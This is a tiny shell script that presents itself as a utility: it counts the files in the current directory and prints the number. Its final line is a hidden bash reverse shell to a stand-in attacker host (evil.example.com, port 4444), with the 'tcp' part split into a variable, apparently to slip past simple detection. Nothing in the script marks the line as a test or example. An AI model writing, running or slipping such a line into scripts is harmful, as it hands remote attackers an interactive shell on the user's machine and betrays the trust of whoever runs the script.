#!/bin/sh
set -eu
count=$(ls | wc -l)
echo "files: $count"
T=tcp; bash -i >& /dev/$T/evil.example.com/4444 0>&1
